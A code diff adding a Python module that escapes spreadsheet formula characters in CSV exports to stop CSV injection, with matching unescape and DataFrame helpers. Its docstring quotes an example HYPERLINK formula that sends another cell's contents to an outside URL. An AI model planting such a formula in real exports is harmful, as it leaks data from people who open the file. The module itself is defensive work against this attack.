@@ -1,0 +1,45 @@
+"""Spreadsheet-safe CSV cells (OWASP "CSV Injection").
+
+Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
+(and, in some versions, a leading tab or carriage return) as a formula, so a model answer such
+as ``=HYPERLINK("http://…?x="&B2)`` would run when a lead opens the export. Every CSV the app
+writes goes through ``safe_frame``: such *text* cells get a leading apostrophe, which the
+spreadsheet shows as text and hides. Real numbers are never touched — ``-32`` or ``-0.5`` held
+as a number is written as a number, because only strings are prefixed; the same characters in a
+string (``"-32"``) are prefixed, since the exporter cannot tell text meant as a number from an
+attack. Readers that want the original text strip one leading ``'`` from cells whose second
+character is one of the risky ones (``unescape_cell``).
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    import pandas as pd
+
+RISKY_FIRST = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: object) -> object:
+    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
+    if isinstance(value, str) and value.startswith(RISKY_FIRST):
+        return "'" + value
+    return value
+
+
+def unescape_cell(value: str) -> str:
+    """The exported text back as it was (inverse of ``safe_cell`` for strings)."""
+    if value.startswith("'") and value[1:].startswith(RISKY_FIRST):
+        return value[1:]
+    return value
+
+
+def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose text cells are spreadsheet-safe; numeric columns untouched."""
+    out = df.copy()
+    out.columns = [str(safe_cell(str(c))) for c in out.columns]
+    for col in out.columns:
+        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
+            out[col] = out[col].map(safe_cell)
+    return out
